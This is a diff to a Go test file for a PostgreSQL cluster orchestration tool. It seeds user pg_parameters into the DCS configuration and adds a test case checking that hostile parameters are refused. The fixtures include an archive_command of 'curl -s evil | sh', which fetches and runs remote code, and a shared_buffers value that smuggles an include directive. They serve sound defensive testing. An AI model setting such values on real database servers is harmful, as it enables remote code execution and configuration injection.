@@ -71,6 +71,10 @@ func validInputs(t *testing.T) map[string]activities.Validator {
 	if err != nil {
 		t.Fatal(err)
 	}
+	// The DCS config is seeded with the user's own pg_parameters, not pigwf's defaults.
+	if want := map[string]string{"shared_buffers": "1GB", "pg_stat_statements.max": "10000", "wal_level": "logical", "log_line_prefix": "%m [%p] "}; !reflect.DeepEqual(pc.PgParameters, want) {
+		t.Fatalf("pg_parameters seeding the DCS config: %v, want %v", pc.PgParameters, want)
+	}
 	so, err := starter.SwitchoverInput(inv, cl, "db12.example.com", "maintenance", "carol", time.Time{}, time.Hour)
 	if err != nil {
 		t.Fatal(err)
@@ -104,10 +108,11 @@ func validInputs(t *testing.T) map[string]activities.Validator {
 		"PgNodeInput precheck": activities.PgNodeInput{Node: primary.Node, Spec: pc.Spec, Etcd: pc.DCS.Endpoints},
 		"AgentInput": activities.AgentInput{Node: replica.Node, Member: replica.Name, Spec: pc.Spec, DCS: pc.DCS, APIPort: pc.APIPort, NoFailover: true,
 			Tags: replica.Tags},
-		"SQLInput roles":       activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Roles, Step: activities.StepRoles},
-		"SQLInput users":       activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Users, Databases: pc.Databases, Step: activities.StepUsers},
-		"DCSInput":             pc.DCS,
-		"DCSRegisterInput":     activities.DCSRegisterInput{DCS: pc.DCS, Primary: primary.Name, Sysid: "7300000000000000001", RPO: 1 << 20},
+		"SQLInput roles": activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Roles, Step: activities.StepRoles},
+		"SQLInput users": activities.SQLInput{Primary: primary.Node, Spec: pc.Spec, Roles: pc.Users, Databases: pc.Databases, Step: activities.StepUsers},
+		"DCSInput":       pc.DCS,
+		"DCSRegisterInput": activities.DCSRegisterInput{DCS: pc.DCS, Primary: primary.Name, Sysid: "7300000000000000001", RPO: 1 << 20,
+			Parameters: pc.PgParameters},
 		"WaitLeaderInput":      activities.WaitLeaderInput{DCS: pc.DCS, Member: primary.Name, APIURL: apiURL},
 		"VerifyInput":          activities.VerifyInput{DCS: pc.DCS, Primary: primary.Name, APIURL: apiURL, Replicas: names[1:]},
 		"SwitchoverCheckInput": activities.SwitchoverCheckInput{DCS: so.DCS, Members: so.Members, Candidate: so.Candidate, MaxLagBytes: so.MaxLagBytes},
@@ -223,6 +228,11 @@ func TestHostileInputsRefused(t *testing.T) {
 		{"PgNodeInput", "spec.parameters.shared_buffers", func(v activities.Validator) activities.Validator {
 			in := v.(activities.PgNodeInput)
 			in.Spec.Parameters = activities.Parameters(in.Spec.Cluster, in.Spec.Port, false, map[string]string{"shared_buffers": "1GB'\ninclude '/tmp/x"})
+			return in
+		}},
+		{"DCSRegisterInput", "parameters.archive_command", func(v activities.Validator) activities.Validator {
+			in := v.(activities.DCSRegisterInput)
+			in.Parameters = map[string]string{"archive_command": "curl -s evil | sh"}
 			return in
 		}},
 		{"PgNodeInput", "spec.hba[3]", func(v activities.Validator) activities.Validator {
